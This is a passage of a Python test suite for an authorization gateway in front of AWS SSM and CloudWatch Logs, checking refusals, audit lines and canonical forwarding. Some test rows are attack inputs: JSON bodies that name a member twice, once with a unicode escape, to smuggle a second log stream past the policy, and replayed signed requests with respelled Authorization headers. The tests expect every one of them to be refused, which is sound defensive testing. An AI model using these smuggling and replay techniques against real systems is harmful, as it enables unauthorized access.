        before = self.stack.ssm.stats()
        for name, req, code, message in cases:
            with self.subTest(name):
                reply = self.send(req)
                self.assertEqual((reply.status, reply.code), (400, code), reply.body[:300])
                self.assertIn(message, reply.message)
                line = self.stack.gw.audit_for(reply.request_id)
                self.assertEqual((line["principal"], line.get("policyIds")), ("alice", None), line)
        self.assertEqual(self.stack.ssm.stats()["requests"], before["requests"], "nothing reached the upstream")

    def test_bad_bearer_tokens_are_refused(self):
        cases = jwt_cases(self.stack)
        self.assertEqual(len({name for name, *_ in cases}), len(cases), "row names are unique")
        body = restart_body()
        before = self.stack.ssm.stats()
        for name, auth, code in cases:
            with self.subTest(name):
                headers = [("Content-Type", JSON_CT), ("X-Amz-Target", "AmazonSSM.SendCommand"), *auth]
                self.assert_refused(self.send(Req("POST", "/", headers, body)), code)
        self.assertEqual(self.stack.ssm.stats()["requests"], before["requests"], "nothing reached the upstream")
        print(f"\n    ({len(cases)} bad bearer tokens refused, none reached the upstream)", file=sys.stderr)
        # The base token itself is accepted (each row refuses for its one change).
        ok = self.stack.bearer_post("SendCommand", restart_body("CHG-101 jwt base"), self.stack.rsa_key.token(
            "carol", ["on-call"]))
        self.assertEqual(ok.status, 200, ok.body[:300])

    # ---------------------------------------------------------------- signed, then refused for the body

    def sent_body(self, comment):
        """The raw body the local SSM received for the SendCommand with this Comment
        (exactly one)."""
        found = [b for b in self.stack.ssm.received("SendCommand") if json.loads(b).get("Comment") == comment]
        self.assertEqual(len(found), 1, f"SendCommands with Comment {comment!r} the local SSM received")
        return found[0]

    def test_signed_requests_asking_for_too_much_are_refused(self):
        """Foreign document ARNs (for admins too, in SendCommand and GetDocument), members
        named twice, on-call's output destinations, notifications and roles, and tags of
        anything but managed nodes: refused with the AWS error, the principal in the audit
        line, nothing sent upstream."""
        cases = body_cases(self.corpus)
        self.assertEqual(len({name for name, *_ in cases}), len(cases), "row names are unique")
        before = self.stack.ssm.stats()
        for name, who, req, code, fragments, decision in cases:
            with self.subTest(name):
                reply = self.send(req)
                self.assertEqual((reply.status, reply.code), (400, code), reply.body[:300])
                operation = header(req, "X-Amz-Target").split(".", 1)[1]
                decoded = decode_error(operation, reply.status, list(reply.headers.items()), reply.body)
                self.assertEqual(decoded["code"], code, "botocore decodes the same error")
                for fragment in fragments:
                    self.assertIn(fragment, reply.message)
                line = self.stack.gw.audit_for(reply.request_id)
                self.assertEqual((line["decision"], line.get("principal")), (decision, who), line)
        self.assertEqual(self.stack.ssm.stats()["requests"], before["requests"], "nothing reached the upstream")
        print(f"\n    ({len(cases)} signed requests refused for their body, none reached the upstream)",
              file=sys.stderr)

    def test_reads_of_output_name_one_commands_stream_however_spelled(self):
        """CloudWatch Logs reads (signed for `logs`, as boto3's logs client signs them) whose
        stream or group could mean something other than what the policy would decide on: a
        member named twice (plainly or with an escape), a group by identifier, a stream or
        prefix that names no command, a signature for another service. Refused before the
        command is even looked up: nothing reaches the upstream."""
        command = "0b7c5f0e-3a4d-4c1e-9f7a-1234567890ab"
        stream = f"{command}/{INSTANCE}/aws-runShellScript/stdout"
        other = f"9f9f9f9f-0000-4000-8000-000000000000/{INSTANCE}/aws-runShellScript/stdout"
        group = '"logGroupName":"/aws/ssm/AWS-RunShellScript"'
        rows = [
            ("GetLogEvents", f'{{{group},"logStreamName":"{stream}","logStreamName":"{other}"}}', "logs", SERIALIZATION),
            ("GetLogEvents", f'{{{group},"logStreamName":"{stream}","log\\u0053treamName":"{other}"}}', "logs",
             SERIALIZATION),
            ("GetLogEvents", f'{{"logGroupIdentifier":"arn:aws:logs:us-east-1:999999999999:log-group:x",'
                             f'"logStreamName":"{stream}"}}', "logs", "InvalidParameterException"),
            ("GetLogEvents", f'{{{group},"logStreamName":"application.log"}}', "logs", "InvalidParameterException"),
            ("DescribeLogStreams", f'{{{group},"logStreamNamePrefix":"0b7c"}}', "logs", "InvalidParameterException"),
            ("GetLogEvents", f'{{{group},"logStreamName":"{stream}"}}', "ssm", INVALID),
        ]
        before = self.stack.ssm.stats()
        for operation, body, service, code in rows:
            with self.subTest(body=body, service=service):
                reply = self.stack.signed_post(operation, body.encode(), "alice", service=service,
                                               extra={"X-Amz-Target": f"Logs_20140328.{operation}"})
                self.assertEqual((reply.status, reply.code), (400, code), reply.body[:300])
                line = self.stack.gw.audit_for(reply.request_id)
                self.assertIn(line["decision"], ("invalid", "unauthenticated"), line)
        self.assertEqual(self.stack.ssm.stats()["requests"], before["requests"], "nothing reached the upstream")

    def test_one_signature_is_one_request_however_its_header_is_spelled(self):
        """A captured SendCommand sent again with its Authorization components reordered
        or respaced is the same signature: a replay. Each spelling is itself accepted (on
        a fresh request), so the refusals are for the replay, not the spelling."""
        req = self.corpus.signed()
        comment = json.loads(req.body)["Comment"]
        before = self.stack.ssm.stats()
        first = self.send(req)
        self.assertEqual(first.status, 200, first.body[:300])
        for what, spelling in respellings(header(req, "Authorization")).items():
            with self.subTest(replay=what):
                self.assert_refused(self.send(set_header(req, "Authorization", spelling)), INVALID, "already used",
                                    replay=True)
        self.assertEqual(self.stack.requests_since(before, "SendCommand"), 1, "exactly one upstream send")
        self.assertEqual(self.stack.executions(comment), 1)

        for what, _ in respellings(header(req, "Authorization")).items():
            with self.subTest(spelled=what):
                fresh = self.corpus.signed()
                spelled = set_header(fresh, "Authorization", respellings(header(fresh, "Authorization"))[what])
                reply = self.send(spelled)
                self.assertEqual(reply.status, 200, reply.body[:300])
                self.assert_refused(self.send(fresh), INVALID, "already used", replay=True)
                self.assertEqual(self.stack.executions(json.loads(fresh.body)["Comment"]), 1)

    def test_an_own_account_document_arn_decides_like_its_name(self):
        """The upstream account's ARN of the allowed document: allowed for alice through
        boto3, and forwarded as she wrote it."""
        arn = document_arn(UPSTREAM_ACCOUNT_ID, self.stack.region)
        comment = f"CHG-310 own arn {uuid.uuid4().hex[:10]}"
        answer = self.stack.boto("alice").send_command(DocumentName=arn, Targets=STAGING,
                                                       Parameters={"service": ["nginx"]}, Comment=comment)
        self.assertEqual(answer["Command"]["DocumentName"], "Ops-RestartService")
        self.assertEqual(self.stack.executions(comment), 1)
        self.assertEqual(json.loads(self.sent_body(comment))["DocumentName"], arn)
        line = self.stack.gw.audit_for(answer["ResponseMetadata"]["RequestId"])
        self.assertEqual((line["decision"], line["principal"]), ("allowed", "alice"), line)

    def test_read_members_reach_the_upstream_and_the_audit_line(self):
        """GetDocument and ListTagsForResource through boto3: the local SSM receives each
        member as the policy saw it, and the audit line carries it."""
        alice = self.stack.boto("alice")
        doc = alice.get_document(Name="Ops-RestartService", DocumentVersion="1", DocumentFormat="YAML")
        self.assertIn("allowedValues:", doc["Content"])
        self.assertEqual(json.loads(self.stack.ssm.received("GetDocument")[-1]),
                         {"Name": "Ops-RestartService", "DocumentVersion": "1", "DocumentFormat": "YAML"})
        line = self.stack.gw.audit_for(doc["ResponseMetadata"]["RequestId"])
        self.assertEqual([line.get(k) for k in ("decision", "document", "documentVersion", "documentFormat")],
                         ["allowed", "Ops-RestartService", "1", "YAML"])
        node = "mi-0123456789abcdef0"
        tags = alice.list_tags_for_resource(ResourceType="ManagedInstance", ResourceId=node)["TagList"]
        self.assertEqual(tags, [{"Key": "env", "Value": "prod"}, {"Key": "service", "Value": "db"}])
        self.assertEqual(json.loads(self.stack.ssm.received("ListTagsForResource")[-1]),
                         {"ResourceType": "ManagedInstance", "ResourceId": node})

    def test_every_forwarded_field_reaches_the_upstream_and_the_audit_line(self):
        """Root may send output, notifications and a role where he wants; alice may set
        the document version and hash, alarms, concurrency, errors and timeout. Each
        such field is in what the local SSM received and in the audit line."""
        tag = uuid.uuid4().hex[:10]
        hash_value = hashlib.sha256(tag.encode()).hexdigest()
        others = [
            ("DocumentVersion", "$LATEST"),
            ("DocumentHash", hash_value),
            ("AlarmConfiguration", {"IgnorePollAlarmFailure": True, "Alarms": [{"Name": f"ops-alarm-{tag}"}]}),
            ("MaxConcurrency", "37%"),
            ("MaxErrors", "13%"),
            ("TimeoutSeconds", 4321),
        ]
        cases = [("root", member, value) for member, value in destinations(self.stack.region, tag)]
        cases += [("alice", member, value) for member, value in others]
        clients = {who: self.stack.boto(who) for who in ("alice", "root")}
        for who, member, value in cases:
            with self.subTest(who=who, member=member):
                comment = f"CHG-320 {member} {uuid.uuid4().hex[:10]}"
                extra = {"DocumentHashType": "Sha256"} if member == "DocumentHash" else {}
                answer = clients[who].send_command(DocumentName="Ops-RestartService", Targets=STAGING,
                                                   Parameters={"service": ["nginx"]}, Comment=comment,
                                                   **{member: value}, **extra)
                self.assertEqual(self.stack.executions(comment), 1)
                self.assertEqual(json.loads(self.sent_body(comment)).get(member), value, "forwarded as decided")
                line = self.stack.gw.audit_for(answer["ResponseMetadata"]["RequestId"])
                self.assertEqual((line["decision"], line["principal"]), ("allowed", who), line)
                missing = [v for v in leaves(value) if v not in list(leaves(line))]
                self.assertEqual(missing, [], f"{member} in the audit line: {line}")

    def test_the_forwarded_body_is_the_cores_serialization_not_the_callers_bytes(self):
        """Members out of order, escapes, white space, an explicit null: what reaches the
        local SSM is compact JSON of the decided input, the same bytes whatever the
        caller's spelling."""
        tag_a, tag_b = uuid.uuid4().hex[:10], uuid.uuid4().hex[:10]
        spellings = {
            tag_a: ('{ "Comment" : "CHG-330 r\\u0065start %s", "Parameters":{"service":["nginx"]},\n'
                    '"Targets":[{"Values":["staging"],"Key":"tag:env"}], "OutputS3KeyPrefix": null,\t'
                    '"DocumentName":"Ops-RestartService"}' % tag_a),
            tag_b: ('{"DocumentName" :"Ops-\\u0052estartService","Targets":[ {"Key":"tag:env", "Values":[ "staging" ]} ],'
                    '"Comment":"CHG-330 restart %s","Parameters":{ "service" : [ "nginx" ] } }\n' % tag_b),
        }
        sent = {}
        for tag, text in spellings.items():
            body = text.encode()
            reply = self.send(self.corpus.signed("alice", body))
            self.assertEqual(reply.status, 200, reply.body[:300])
            comment = f"CHG-330 restart {tag}"
            received = self.sent_body(comment)
            self.assertNotEqual(received, body)
            self.assertEqual(json.loads(received), {
                "DocumentName": "Ops-RestartService", "Comment": comment, "Parameters": {"service": ["nginx"]},
                "Targets": [{"Key": "tag:env", "Values": ["staging"]}]})
            compact = json.dumps(json.loads(received), separators=(",", ":"), ensure_ascii=False).encode()
            self.assertEqual(received, compact, "compact JSON, no escapes it does not need")
            sent[tag] = received.replace(tag.encode(), b"TAG")
        self.assertEqual(sent[tag_a], sent[tag_b], "one serialization whatever the caller's spelling")

    def test_upstream_refusals_reach_boto3_without_the_upstream_identity(self):
        """The local SSM refuses as AWS does, naming the gateway's upstream IAM user and
        account: boto3 gets the error code and the message with the ARNs and the account
        id taken out; the audit line keeps the full text."""
        client = self.stack.boto("root")
        account = UPSTREAM_ACCOUNT_ID
        before = self.stack.ssm.stats()
        self.stack.ssm.faults({"mode": "access-denied", "operations": ["SendCommand"], "count": 1})
        try:
            with self.assertRaises(ClientError) as ctx:
                client.send_command(DocumentName="Ops-RestartService", Targets=STAGING,
                                    Parameters={"service": ["nginx"]}, Comment="INC-340 upstream denies")
        finally:
            self.stack.ssm.clear_faults()
        error = ctx.exception.response["Error"]
        self.assertEqual(error["Code"], "AccessDeniedException", error)
        self.assertIn("is not authorized to perform: ssm:SendCommand", error["Message"])
        for secret in (account, "arn:aws", "local-ssm-caller"):
            self.assertNotIn(secret, error["Message"])
        line = self.stack.gw.audit_for(ctx.exception.response["ResponseMetadata"]["RequestId"])
        self.assertEqual(line["decision"], "upstream-error", line)
        self.assertIn(f"arn:aws:iam::{account}:user/local-ssm-caller", line["upstreamError"])
        self.assertEqual(self.stack.requests_since(before, "SendCommand"), 1, "a refusal is not retried")

        # Refused by the emulator itself: an instance that is not online, "for account …".
        offline = "i-0c3d4e5f607182930"
        with self.assertRaises(ClientError) as ctx:
            client.send_command(DocumentName="AWS-RunShellScript", InstanceIds=[offline],
                                Parameters={"commands": ["uptime"]}, Comment="INC-341 offline")
        error = ctx.exception.response["Error"]
        self.assertEqual(error["Code"], "InvalidInstanceId", error)
        self.assertIn(offline, error["Message"], "instance ids are not account ids")
        self.assertNotIn(account, error["Message"])
        line = self.stack.gw.audit_for(ctx.exception.response["ResponseMetadata"]["RequestId"])
        self.assertIn(f"for account {account}", line["upstreamError"])
